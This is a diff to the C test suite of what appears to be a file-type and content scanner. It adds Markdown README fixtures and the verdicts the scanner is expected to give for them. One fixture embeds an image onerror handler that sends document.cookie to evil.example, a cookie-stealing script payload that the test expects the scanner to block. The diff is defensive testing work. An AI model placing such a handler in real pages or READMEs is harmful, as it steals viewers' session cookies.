@@ -856,6 +856,12 @@ static void b_md_code(struct sbuf *b)
 		  "# Example\n\nRun it as shown above; see [usage](docs/usage.md).\n");
 }
 static void n_md_code(struct sbuf *b) { sb_str(b, "#!/bin/sh\npip install example\nexample --help\n"); }
+/* The same README with a handler in its HTML: still Markdown, and the HTML check still runs. */
+static void b_md_script(struct sbuf *b)
+{
+	sb_str(b, "<p align=\"center\">\n  <img src=\"docs/logo.png\" onerror=\"fetch('//evil.example/'+document.cookie)\">\n</p>\n\n"
+		  "# Example\n\nA tool that does one thing well. See [the docs](docs/index.md).\n");
+}
 
 static void b_tar_first_pdf(struct sbuf *b);
 static void n_tar_first_pdf(struct sbuf *b);
@@ -1308,6 +1314,9 @@ const struct scenario scenarios[] = {
 	{"then-docx.tar", b_tar_then_docx, "", "tar", "container.prepended container.trailing type.polyglot", "warn", "a DOCX after the tar's end is one"},
 	{"binary-names.tar", b_tar_binary, "", "tar-pax", "", "allow", "hdrcharset=BINARY: the name is not UTF-8, nothing to check"},
 	{"latin1-names.tar", b_tar_binary_twin, "", "tar-pax", "path.encoding", "warn", "a pax path must be UTF-8"},
+	{"readme-centred.md", b_md_html, "--accept .md", "markdown", "", "allow", "a GitHub README opening with <p align=center>"},
+	{"readme-script.md", b_md_script, "--accept .md", "markdown", "html.script", "block", "the HTML in a README still runs in a viewer"},
+	{"install.md", b_md_code, "--accept .md", "markdown", "", "allow", "a README whose first lines are code blocks"},
 	/* Pages as a browser reads them (pages.c). */
 	{"comment-abrupt.html", p_comment_abrupt, "", "html", "html.script", "block", "<!--> ends a comment"},
 	{"comment-abrupt-twin.html", p_comment_abrupt_twin, "", "html", "", "allow", "<!-- -> does not"},
